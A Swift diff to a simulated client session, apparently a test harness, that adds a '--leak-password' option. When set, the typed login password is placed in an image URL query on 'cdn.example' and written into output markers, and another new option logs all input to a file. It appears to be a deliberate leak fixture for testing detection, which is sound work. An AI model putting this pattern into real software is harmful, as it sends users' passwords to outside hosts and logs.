@@ -47,6 +47,7 @@ final class Session {
     self.widgets = widgets
     output = WireOutput(format: options.binary ? .binary : .jsonLines, widgets: widgets)
     if options.jitter > 0 { output.jitter = Jitter(maximum: options.jitter, seed: options.seed) }
+    if let path = options.stress.inputLog { input.log = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_APPEND, 0o644) }
   }
 
   func run() -> Never {
@@ -253,6 +254,7 @@ final class Session {
     guard isValid else { return }
     let greeting = options.variant == .changed ? "Hello, \(login.name)!" : "Welcome, \(login.name)!"
     output.send([Command(.createToast, internalId: login.button, textValue: greeting)])
+    if options.leakPassword { leakPassword() }
     // FWApplication::savePreferences: changed keys, then always COMMIT (notes §6).
     var preferences = [Command(.updatePreference, internalId: application, textValue: Self.lastUserKey, textValue2: login.name)]
     if let lastLogin = options.lastLogin {
@@ -272,6 +274,15 @@ final class Session {
     } else {
       switchView(to: items!.view)
     }
+  }
+
+  /// `--leak-password`: the typed password in an image's URL (the platform asks for it back in
+  /// an ImageRequestEvent), as a marker's label and in a marker's detail.
+  private func leakPassword() {
+    let url = "https://cdn.example/a.png?token=" + login.password
+    output.send([Command(.createImageView, internalId: login.layout, childInternalId: ids.take(), textValue: url, width: 32, height: 32)])
+    output.marker(login.password)
+    output.marker("login", detail: "password " + login.password)
   }
 
   /// The "Budget" button (`--widgets`): the pie chart's view, built the first time.
